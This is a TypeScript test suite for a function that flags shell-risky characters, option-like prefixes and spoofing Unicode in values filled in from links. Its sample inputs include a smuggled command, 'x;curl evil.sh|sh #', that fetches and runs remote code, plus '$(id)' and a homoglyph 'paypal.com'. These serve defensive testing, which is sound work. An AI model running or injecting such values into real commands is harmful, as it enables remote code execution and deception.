import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import fc from 'fast-check'
import { type LinkRisk, linkRisksOf } from '../../../core/commands/link-risks.ts'

const PLAIN = [
  'db1',
  'db-1.example.org',
  'me@host:22',
  '/var/log/app_1.log',
  'https://example.org/a/b',
  'a=b,c=d',
  '1.2.3+build',
  'x'.repeat(100),
]

const RISKY: Readonly<Record<string, readonly string[]>> = {
  'x;curl evil.sh|sh #': [';', 'space', '|', '#'],
  'a&b': ['&'],
  $HOME: ['$'],
  '`id`': ['`'],
  '$(id)': ['$', '(', ')'],
  'a<b>c': ['<', '>'],
  "it's": ["'"],
  'a"b': ['"'],
  'wow!!': ['!'],
  '~root': ['~'],
  '*.txt': ['*'],
  'a?': ['?'],
  '[ab]': ['[', ']'],
  '{a,b}': ['{', '}'],
  'C:\\x': ['\\'],
  '%PATH%': ['%'],
  'a^b': ['^'],
  'a b': ['space'],
  '-o': ['start -'],
  '--proxy=evil': ['start -'],
  '+x': ['start +'],
  // In turn: a Cyrillic letter, a full-width letter, a dotless i, a Greek question mark, a combining accent, and a bold
  // mathematical letter.
  'p\u0430ypal.com': ['\u0430'],
  '\uff41': ['\uff41'],
  '\u0131d': ['\u0131'],
  'a\u037eb': ['\u037e'],
  'e\u0301': ['\u0301'],
  '\u{1d41a}': ['\u{1d41a}'],
  'a\u202eb': ['hidden 202e'],
  'a\u200bb': ['hidden 200b'],
  'a\u00a0b': ['hidden a0'],
  [`${'x'.repeat(100)}y`]: ['long 101'],
}

describe('a value filled in by a link', () => {
  test('is harmless if it is a plain word', () => {
    for (const value of PLAIN) assert.deepEqual(namesOf(value, [value]), [], value)
  })

  for (const [value, expected] of Object.entries(RISKY)) {
    test(`has its risks listed: ${JSON.stringify(value).slice(0, 30)}`, () => {
      assert.deepEqual(namesOf(value, [value]), expected)
    })
  }

  test('is never called harmless if a shell could misread it', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', minLength: 1, maxLength: 12 }), (value) => {
        assert.equal(linkRisksOf(value, [value]).length === 0, /^[\w./:@,=][\w./:@,=+-]*$/.test(value))
      }),
    )
  })
})

/** For each value of a link, values that the reader changes it to, with the risks that remain. */
const EDITED: Readonly<Record<string, readonly (readonly [value: string, expected: readonly string[]])[]>> = {
  'x;id': [
    ['x', []],
    ['xid', []],
    ['a;b', []],
    ['$(hostname)', []],
    ['y;id', [';']],
    ['x;', [';']],
    ['', []],
  ],
  'a;b;c': [['1;b;2', [';']]],
  'a-x': [
    ['-x', ['start -']],
    ['-y', []],
  ],
  'a$ b': [['a$', ['$']]],
  ['x'.repeat(200)]: [
    ['x'.repeat(199), ['long 199']],
    ['x', []],
  ],
  ['y'.repeat(100)]: [['y'.repeat(101), []]],
}

describe('a value edited since a link filled it in', () => {
  for (const [link, edits] of Object.entries(EDITED)) {
    for (const [value, expected] of edits) {
      test(`keeps the risks of ${link.slice(0, 9)} that are still in ${value.slice(0, 12) || 'nothing'}`, () => {
        assert.deepEqual(namesOf(value, [link]), expected)
      })
    }
  }

  test('has no risks without a link', () => {
    assert.deepEqual(linkRisksOf('x;id', []), [])
  })
})

function namesOf(value: string, links: readonly string[]): readonly string[] {
  return linkRisksOf(value, links).map(nameOf)
}

function nameOf(risk: LinkRisk): string {
  if (risk.kind === 'space') return 'space'
  if (risk.kind === 'long') return `long ${risk.length}`
  if (risk.kind === 'hidden') return `hidden ${risk.code.toString(16)}`
  return risk.kind === 'character' ? risk.text : `${risk.kind} ${risk.text}`
}
